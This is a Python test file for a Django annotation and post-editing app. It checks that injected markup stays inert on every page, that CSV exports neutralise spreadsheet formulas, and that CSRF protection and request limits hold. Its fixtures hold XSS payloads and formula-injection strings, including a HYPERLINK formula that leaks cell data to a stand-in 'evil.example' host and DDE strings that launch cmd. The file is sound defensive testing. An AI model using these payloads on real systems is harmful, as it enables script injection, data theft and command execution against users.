"""Hostile input: markup in every text is inert, CSV cells cannot run formulas, CSRF holds, limits answer clearly.

- Markup: model outputs, sources, references, instructions, guidelines (Markdown), project, batch
  and annotator names, typed text (event data, drafts, post-edits) and skip reasons all carry
  HTML/JavaScript payloads; every page where they appear is parsed and must contain no live script,
  no event-handler attribute and no javascript: URL from them, while the payload is shown (escaped).
- Spreadsheets: exported text cells starting with = + - @ tab or CR are neutralised; numbers are not.
- CSRF: every POST the permission walk allows (tests/editlab/test_url_permissions.py ROUTES) is
  refused without the token for a logged-in session, changing nothing, and accepted with it.
- Limits: request bodies over DATA_UPLOAD_MAX_MEMORY_SIZE and numbers beyond their column's range
  answer 400 with a message naming the problem (event-batch and import-file limits:
  tests/annotations/test_ingestion.py, tests/annotations/test_import_page.py).
"""

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest
from django.db import transaction
from django.test import Client
from django.urls import reverse
from rest_framework.authtoken.models import Token

from annotations.editing.lifecycle import post_edit_open, post_edit_skip, post_edit_submit
from annotations.models import Assignment, EditEvent, Item, PostEdit, Project
from metrics.models import MetricValue
from tests.editlab.test_url_permissions import ROUTES, build_world, refused, snapshot
from tests.factories import (
    AssignmentFactory,
    BatchFactory,
    EditEventFactory,
    ItemFactory,
    MetricValueFactory,
    ProjectFactory,
    SubmittedPostEditFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

PAYLOAD = "<script>alert(1)</script><img src=x onerror=alert(1)>\"><svg onload=alert(1)>'-->"
SHORT = "<img src=x onerror=alert(1)>"  # for fields of 150 characters or fewer
MARKDOWN = (
    "# Guidelines\n\n[click me](javascript:alert(1)) and [also](JaVaScRiPt:alert(1)) "
    "![pic](javascript:alert(1))\n\n<script>alert(1)</script> <img src=x onerror=alert(1)> "
    '<a href="javascript:alert(1)" onclick="alert(1)">raw</a>'
)
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"  # how the payload reads when shown as text
SHOWN = (ESCAPED, "&lt;img src=x onerror=alert(1)&gt;", "\\u003Cscript\\u003E")  # any of these: displayed
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}


# --------------------------------------------------------------------------- the markup checker


class LiveMarkup(HTMLParser):
    """Collects what a browser would run: scripts, on* handlers, javascript: URLs, injected elements."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._script: dict | None = None
        self._script_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and "alert" in value:
                self.problems.append(f"<{tag} {name}={value!r}>")
            scheme = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if name in URL_ATTRIBUTES and scheme.startswith(("javascript:", "vbscript:", "data:text/html")):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag in ("iframe", "object", "embed", "base") or (
            tag == "meta" and any(name == "http-equiv" for name, _ in attrs)
        ):
            self.problems.append(f"injected <{tag} {attrs}>")
        if tag == "script":
            self._script, self._script_text = dict(attrs), []

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script_text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag != "script" or self._script is None:
            return
        text = "".join(self._script_text)
        if self._script.get("type") == "application/json":
            if "<" in text:
                self.problems.append(f"raw '<' inside a JSON script: {text[:120]!r}")
            json.loads(text)  # intact: nothing broke out of it
        elif "alert" in text:
            self.problems.append(f"live script: {text[:120]!r}")
        self._script = None


def live_markup(html: str) -> list[str]:
    parser = LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.problems


def test_the_checker_finds_live_markup():
    # The checker itself, on the payloads rendered raw: every kind is caught.
    found = live_markup(f"<p>{PAYLOAD}</p><a href=' javascript:alert(1)'>x</a>")
    assert any("live script" in p for p in found)
    assert any("onerror" in p for p in found)
    assert any("onload" in p for p in found)
    assert any("javascript:" in p for p in found)
    assert live_markup(f"<p>{ESCAPED}</p>") == []


# --------------------------------------------------------------------------- a hostile project


@pytest.fixture
def hostile(db) -> dict:
    """A project whose every text is hostile, edited by an annotator whose name is hostile."""
    editor = UserFactory(username=SHORT, role="annotator")  # as an importer could name an account
    colleague = UserFactory(username="colleague" + SHORT[:40], role="annotator")
    project = ProjectFactory(
        name=("Study " + PAYLOAD)[:200],
        guidelines=MARKDOWN,
        instructions=[PAYLOAD],
        task_type=SHORT,
    )
    batch = BatchFactory(project=project, name=PAYLOAD)
    texts = {
        "source": PAYLOAD,
        "model_output": "Fix this: " + PAYLOAD,
        "instruction": PAYLOAD,
        "references": [PAYLOAD, {"title": PAYLOAD, "text": PAYLOAD}],
        "task_type": SHORT,
    }
    open_item = ItemFactory(project=project, batch=batch, batch_position=0, external_id="open-" + PAYLOAD, **texts)
    open_assignment = AssignmentFactory(item=open_item, annotator=editor)
    post_edit, visit = post_edit_open(assignment=open_assignment, user=editor)
    PostEdit.objects.filter(pk=post_edit.pk).update(draft_text="Draft " + PAYLOAD)

    # A submitted edit whose log types the payload (replay matches: the events rebuild the text).
    done_item = ItemFactory(project=project, batch=batch, batch_position=1, external_id="done-" + PAYLOAD, **texts)
    done_assignment = AssignmentFactory(item=done_item, annotator=editor)
    done, done_visit = post_edit_open(assignment=done_assignment, user=editor)
    original = done_item.model_output
    typed = original + PAYLOAD
    log = [
        {"k": "load", "data": original, "len": len(original)},
        {"k": "beforeinput", "it": "insertFromPaste", "s": len(original), "e": len(original)},
        {"k": "paste", "data": PAYLOAD},
        {"k": "input", "it": "insertFromPaste", "s": len(typed), "len": len(typed), "data": PAYLOAD},
    ]
    for seq, event in enumerate(log):
        EditEventFactory(
            post_edit=done,
            visit=done_visit,
            seq=seq,
            t_ms=100.0 * seq,
            kind=event["k"],
            data=event.get("data", ""),
            input_type=event.get("it", ""),
            sel_start=event.get("s"),
            sel_end=event.get("e"),
            length_after=event.get("len"),
            key="",
        )
    post_edit_submit(post_edit=done, page_id=done_visit.page_id, text=typed, version=0, last_seq=len(log) - 1)
    done.refresh_from_db()

    # A skipped one, with a hostile reason.
    skipped_item = ItemFactory(project=project, batch=batch, batch_position=2, **texts)
    skipped_assignment = AssignmentFactory(item=skipped_item, annotator=editor)
    skipped, skipped_visit = post_edit_open(assignment=skipped_assignment, user=editor)
    post_edit_skip(post_edit=skipped, page_id=skipped_visit.page_id, reason=PAYLOAD)

    # Enough finished edits with metric values for the report's tables and plots.
    for n in range(12):
        finished = SubmittedPostEditFactory(
            assignment__item__project=project,
            assignment__item__external_id=f"{n}-{PAYLOAD}",
            assignment__annotator=editor if n % 2 else colleague,
            text=f"{PAYLOAD} {n}",
            keystrokes=5 + 3 * n,
            wall_ms=1000 * (n + 1),
            active_ms=900 * (n + 1),
        )
        MetricValueFactory(post_edit=finished, metric="levenshtein", value=float(n))
        MetricValueFactory(post_edit=finished, metric="bleu", value=float(12 - n) + 0.5 * (n % 3))
    MetricValueFactory(post_edit=done, metric="levenshtein", value=4.0)
    return {
        "editor": editor,
        "project": project,
        "batch": batch,
        "open": open_assignment,
        "done": done_assignment,
        "done_post_edit": done,
        "skipped": skipped_assignment,
        "admin": UserFactory(username="adam", role="admin"),
        "researcher": UserFactory(username="rita", role="researcher"),
    }


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _html(response) -> str:
    assert response.status_code == 200, (response.status_code, response.content[:500])
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode("utf-8")


def _pages(h: dict) -> list[tuple[str, str, bool]]:
    """(who, url, shows the payload as text) for every page where a hostile text appears."""
    project, post_edit = h["project"], h["done_post_edit"]
    admin_pages = [
        (reverse(f"admin:{app}_{model}_{view}", args=args), (model, view) != ("editevent", "changelist"))
        for app, model, view, args in [
            ("annotations", "project", "changelist", []),
            ("annotations", "project", "change", [project.pk]),
            ("annotations", "batch", "changelist", []),
            ("annotations", "batch", "change", [h["batch"].pk]),
            ("annotations", "item", "changelist", []),
            ("annotations", "item", "change", [h["done"].item_id]),
            ("annotations", "assignment", "changelist", []),
            ("annotations", "assignment", "change", [h["skipped"].pk]),
            ("annotations", "postedit", "changelist", []),
            ("annotations", "postedit", "change", [post_edit.pk]),
            ("annotations", "editevent", "changelist", []),  # kinds and keys only: the data is on the change page
            ("annotations", "editevent", "change", [EditEvent.objects.get(post_edit=post_edit, kind="paste").pk]),
            ("annotations", "visit", "changelist", []),
            ("auth", "user", "changelist", []),
            ("auth", "user", "change", [h["editor"].pk]),
            ("metrics", "metricvalue", "changelist", []),
        ]
    ]
    report = reverse("metrics-report", args=[project.pk])
    return [
        ("editor", reverse("annotator_home"), True),
        ("editor", reverse("annotator_home") + f"?batch={h['batch'].pk}", True),
        ("editor", reverse("editor", args=[h["open"].pk]), True),
        ("editor", reverse("editor_diff", args=[h["done"].pk]), True),
        ("editor", reverse("editor_diff", args=[h["skipped"].pk]), True),
        ("admin", reverse("home"), False),
        ("admin", reverse("manage-projects"), True),
        ("admin", reverse("manage-project-edit", args=[project.pk]), True),
        ("admin", reverse("manage-batches", args=[project.pk]), True),
        ("admin", reverse("manage-progress", args=[project.pk]), True),
        ("admin", reverse("manage-post-edit-replay", args=[post_edit.pk]), True),
        ("admin", reverse("manage-import"), True),
        ("researcher", reverse("metrics-projects"), True),
        ("researcher", reverse("metrics-project", args=[project.pk]), True),
        ("researcher", reverse("metrics-reports"), True),
        ("researcher", report, True),
        ("researcher", report + "?target=wall_time&annotators=" + SHORT, True),
        *(("admin", url, shows) for url, shows in admin_pages),
    ]


def test_hostile_texts_are_shown_as_text_on_every_page(hostile):
    clients = {who: _client(hostile[who]) for who in ("editor", "admin", "researcher")}
    problems = []
    for who, url, shows in _pages(hostile):
        html = _html(clients[who].get(url))
        found = live_markup(html)
        if found:
            problems.append(f"{url} ({who}): {found}")
        if shows and not any(shown in html for shown in SHOWN):
            problems.append(f"{url} ({who}): the payload is not shown at all (the check would be vacuous)")
    assert not problems, "\n".join(problems)


def test_markdown_guidelines_lose_scripts_handlers_and_javascript_links(hostile):
    html = _html(_client(hostile["editor"]).get(reverse("editor", args=[hostile["open"].pk])))
    assert "click me" in html and "<h1>Guidelines</h1>" in html  # rendered, not escaped wholesale
    assert "javascript:" not in html.lower()
    assert live_markup(html) == []


def test_the_editor_config_carries_the_hostile_text_intact(hostile):
    # Escaped for the page, yet the logger gets back exactly the stored text.
    html = _html(_client(hostile["editor"]).get(reverse("editor", args=[hostile["open"].pk])))
    match = re.search(r'<script id="editor-config" type="application/json">(.*?)</script>', html, re.S)
    assert match, "the editor embeds its config with json_script"
    config = json.loads(match.group(1))
    assert config["original"] == "Fix this: " + PAYLOAD
    assert config["draft"] == "Draft " + PAYLOAD


def test_report_plots_are_inert_svg(hostile):
    client = _client(hostile["researcher"])
    project = hostile["project"]
    for kind, query in (("scatter", "?metric=levenshtein"), ("heatmap", ""), ("effort", "")):
        response = client.get(reverse("metrics-report-plot", args=[project.pk, kind, "svg"]) + query)
        svg = _html(response)
        assert response["Content-Type"].startswith("image/svg+xml")
        # Even opened directly, the SVG document may run nothing.
        assert response["Content-Security-Policy"].startswith("default-src 'none'")
        assert "<script" not in svg.lower()
        assert live_markup(svg) == [], kind


# --------------------------------------------------------------------------- spreadsheets

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_project(db) -> Project:
    project = ProjectFactory(name="=formula study", instructions=[FORMULAS[0]], task_type="@task")
    for n, formula in enumerate(FORMULAS):
        annotator = UserFactory(username=f"{formula[:1]}user{n}", role="annotator")
        post_edit = SubmittedPostEditFactory(
            assignment__item__project=project,
            assignment__item__external_id=formula,
            assignment__item__model_output=formula,
            assignment__item__source=formula,
            assignment__item__task_type="@task",
            assignment__annotator=annotator,
            text=formula,
            keystrokes=n,
            wall_ms=1000 + n,
        )
        MetricValueFactory(post_edit=post_edit, metric="levenshtein", value=-2.5 + n)  # negative stays a number
    return project


def _assert_neutralised(rows: list[list[str]], numeric_columns: set[str]) -> int:
    header, *body = rows
    checked = 0
    for row in body:
        for column, cell in zip(header, row, strict=True):
            if column in numeric_columns:
                if cell:
                    float(cell)  # a plain number, untouched
                continue
            assert not cell.startswith(FORMULA_START), f"{column}: {cell!r} would run as a formula"
            checked += cell.startswith("'") and cell[1:].startswith(FORMULA_START)
    return checked


def test_csv_exports_neutralise_formulas_and_keep_numbers(formula_project, researcher):
    client = _client(researcher)
    token = Token.objects.create(user=researcher)
    page = _html(client.get(reverse("metrics-export", args=[formula_project.pk]) + "?format=csv"))
    api = Client(HTTP_AUTHORIZATION=f"Token {token.key}").get(
        reverse("api-project-export", args=[formula_project.pk]) + "?format=csv"
    )
    assert page == _html(api)
    rows = list(csv.reader(io.StringIO(page)))
    numeric = {
        "wall_ms",
        "active_ms",
        "reading_ms",
        "keystrokes",
        "allkeys",
        "levenshtein",
        "levenshtein__with_references",
    }
    numeric |= {
        c
        for c in rows[0]
        if c not in {"external_id", "annotator", "original", "edited", "source", "task_type", "instruction", "origin"}
    }
    # external_id, annotator, original, edited, source of every row, task_type and instruction too.
    assert _assert_neutralised(rows, numeric) >= 5 * len(FORMULAS)
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["'-2+3"][rows[0].index("levenshtein")] == "-0.5"  # the number, not "'-0.5"
    assert by_id["'-2+3"][rows[0].index("original")] == "'-2+3"


def test_report_csvs_neutralise_formulas(formula_project, researcher):
    client = _client(researcher)
    data = _html(client.get(reverse("metrics-report-data", args=[formula_project.pk, "csv"]) + "?target=keystrokes"))
    scatter = _html(
        client.get(
            reverse("metrics-report-plot", args=[formula_project.pk, "scatter", "csv"])
            + "?target=keystrokes&metric=levenshtein"
        )
    )
    scatter_rows = list(csv.reader(io.StringIO(scatter)))
    assert _assert_neutralised(scatter_rows, {"post_edit_id", "levenshtein", "keystrokes"}) >= 2 * len(FORMULAS)
    header = next(csv.reader(io.StringIO(data)))
    assert not any(column.startswith(FORMULA_START) for column in header)


# --------------------------------------------------------------------------- CSRF


def _csrf_cases() -> list[tuple[str, str]]:
    """(URL name, role) of every POST the permission walk lets through."""
    cases = []
    for name, route in ROUTES.items():
        allowed = [role for role, expected in route.post.items() if role != "anonymous" and not refused(expected)]
        if allowed:
            cases.append((name, allowed[-1]))  # the most privileged role that may post
    return cases


def test_every_state_changing_post_needs_the_csrf_token():
    world = build_world()
    cases = _csrf_cases()
    assert len(cases) >= 30, cases
    problems = []
    for name, role in cases:
        route = ROUTES[name]
        url = reverse(name, kwargs=route.kwargs(world)) + route.query
        client = Client(enforce_csrf_checks=True)
        client.force_login(world.users[role])
        secret = "k" * 32
        client.cookies["csrftoken"] = secret

        def post(with_token: bool, route=route, url=url, client=client, secret=secret):
            data = route.data(world)
            if route.json:
                headers = {"X-CSRFToken": secret} if with_token else {}
                return client.post(url, data=json.dumps(data), content_type="application/json", headers=headers)
            if with_token:
                data = {**data, "csrfmiddlewaretoken": secret}
            return client.post(url, data=data)

        refused_answer = post(with_token=False)
        if refused_answer.status_code != 403 or b"CSRF" not in refused_answer.content:
            problems.append(f"{name} as {role}: {refused_answer.status_code} without the CSRF token")
        if snapshot() != world.state:
            problems.append(f"{name} as {role}: refused for CSRF, yet the database changed")
            world.state = snapshot()
        with transaction.atomic():
            accepted = post(with_token=True)
            transaction.set_rollback(True)
        if accepted.status_code == 403:
            problems.append(f"{name} as {role}: refused even with the CSRF token")
    assert not problems, "\n".join(problems)


def test_the_django_admin_and_logout_need_the_csrf_token(admin_user):
    project = ProjectFactory(name="Untouched")
    client = Client(enforce_csrf_checks=True)
    client.force_login(admin_user)
    change = reverse("admin:annotations_project_change", args=[project.pk])
    response = client.post(change, {"name": "Renamed", "guidelines": "", "overlap": 1, "idle_threshold_s": 30})
    assert response.status_code == 403
    assert Project.objects.get(pk=project.pk).name == "Untouched"
    assert client.post(reverse("logout")).status_code == 403
    assert client.get(reverse("home")).status_code == 200  # still logged in


def test_token_clients_need_no_csrf_token_because_no_cookie_speaks_for_them(admin_user):
    # CSRF abuses a browser's cookies; a token must be sent deliberately, so the API accepts it alone.
    token = Token.objects.create(user=admin_user)
    client = Client(enforce_csrf_checks=True, HTTP_AUTHORIZATION=f"Token {token.key}")
    response = client.post(reverse("api-project-create"), {"name": "By token"}, content_type="application/json")
    assert response.status_code == 201
    assert Project.objects.filter(name="By token").exists()


# --------------------------------------------------------------------------- limits


def test_a_request_body_over_the_limit_is_a_clear_400_and_stores_nothing(admin_client, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 20_000
    project = ProjectFactory(name="Limits")
    items = [{"external_id": f"x{n}", "model_output": "y" * 200} for n in range(200)]
    api = admin_client.post(
        reverse("api-items-create", args=[project.pk]),
        data=json.dumps({"items": items}),
        content_type="application/json",
    )
    assert api.status_code == 400
    assert api.json()["code"] == "too_large"
    assert "DATA_UPLOAD_MAX_MEMORY_SIZE" in api.json()["detail"] and "20,000 bytes" in api.json()["detail"]
    page = admin_client.post(reverse("manage-project-create"), {"name": "n", "guidelines": "g" * 30_000})
    assert page.status_code == 400
    assert "20,000 bytes (DATA_UPLOAD_MAX_MEMORY_SIZE)" in page.content.decode()
    assert not Item.objects.filter(project=project).exists()
    assert not Project.objects.filter(name="n").exists()


def test_too_many_items_in_one_request_is_a_clear_400(admin_client, settings):
    from annotations.api.serializers_manage import MAX_ITEMS_PER_REQUEST

    project = ProjectFactory(name="Many")
    items = [{"external_id": f"x{n}", "model_output": "y"} for n in range(MAX_ITEMS_PER_REQUEST + 1)]
    response = admin_client.post(
        reverse("api-items-create", args=[project.pk]),
        data=json.dumps({"items": items}),
        content_type="application/json",
    )
    assert response.status_code == 400
    assert str(MAX_ITEMS_PER_REQUEST) in json.dumps(response.json())
    assert not Item.objects.filter(project=project).exists()


@pytest.mark.parametrize(
    ("name", "payload", "field"),
    [
        ("api-project-create", {"name": "Huge", "overlap": 10**20}, "overlap"),
        ("api-assignments-withdraw", {"ids": [10**20]}, "ids"),
    ],
)
def test_numbers_beyond_their_column_are_a_400_not_a_500(admin_client, name, payload, field):
    response = admin_client.post(reverse(name), data=json.dumps(payload), content_type="application/json")
    assert response.status_code == 400
    assert field in response.json()["errors"]
    assert not Project.objects.filter(name="Huge").exists()


def test_numbers_beyond_their_column_in_forms_and_queries_are_a_400(admin_client):
    form = admin_client.post(
        reverse("manage-project-create"),
        {"name": "Huge", "guidelines": "", "instructions": "x", "idle_threshold_s": "30", "overlap": str(10**20)},
    )
    assert form.status_code == 200  # the form again, with the error beside the field
    assert "less than or equal to 32767" in form.content.decode()
    query = admin_client.get(reverse("api-assignments") + f"?project={10**20}")
    assert query.status_code == 400 and "project" in query.json()["errors"]
    assert not Project.objects.filter(name="Huge").exists()


def test_a_skip_reason_or_typed_text_is_stored_verbatim(hostile):
    # Inert on the way out does not mean altered on the way in: the study keeps what was typed.
    assert Assignment.objects.get(pk=hostile["skipped"].pk).skip_reason == PAYLOAD
    assert PostEdit.objects.get(pk=hostile["done_post_edit"].pk).text.endswith(PAYLOAD)
    assert MetricValue.objects.filter(post_edit=hostile["done_post_edit"]).exists()
